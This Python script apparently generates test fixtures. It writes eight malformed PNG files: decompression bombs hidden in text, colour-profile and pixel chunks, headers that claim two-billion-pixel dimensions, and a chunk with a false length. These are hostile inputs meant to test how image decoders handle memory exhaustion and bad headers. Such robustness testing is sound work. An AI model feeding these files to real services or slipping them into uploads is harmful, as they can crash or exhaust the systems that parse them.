"""Writes the bombs of this folder anew: small files that unpack to much. No dependencies."""
import struct
import zlib

HEAD = b"\x89PNG\r\n\x1a\n"


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def header(width, height, depth=8, colour=0):
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))


def zeros(count):
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(count >> 20)) + packer.flush()


pixel = chunk(b"IDAT", zlib.compress(b"\0\0"))
end = chunk(b"IEND", b"")
bomb = zeros(64 << 20)
files = {
    "text-bomb.png": HEAD + header(1, 1) + chunk(b"zTXt", b"Comment\0\0" + bomb) + pixel + end,
    "international-text-bomb.png": HEAD + header(1, 1) + chunk(b"iTXt", b"Comment\0\1\0\0\0" + bomb) + pixel + end,
    "profile-bomb.png": HEAD + header(1, 1) + chunk(b"iCCP", b"icc\0\0" + bomb) + pixel + end,
    # 64 MB of pixels where the header says one
    "more-than-told.png": HEAD + header(1, 1) + chunk(b"IDAT", bomb) + end,
    # 5,000 x 5,000 black pixels in 25 kB
    "black-square.png": HEAD + header(5000, 5000) + chunk(b"IDAT", zeros(24 << 20)) + end,
    "two-billion-a-side.png": HEAD + header(0x7FFFFFFF, 0x7FFFFFFF) + pixel + end,
    "claims-memory.png": HEAD + header(0x7FFFFFFF, 0x7FFFFFFF, 16, 6),
    "text-that-promises.png": HEAD + header(1, 1) + struct.pack(">I", 0x7FFFFFFF) + b"tEXt" + b"a\0b",
}
for name, data in files.items():
    with open(name, "wb") as out:
        out.write(data)
    print(name, len(data))
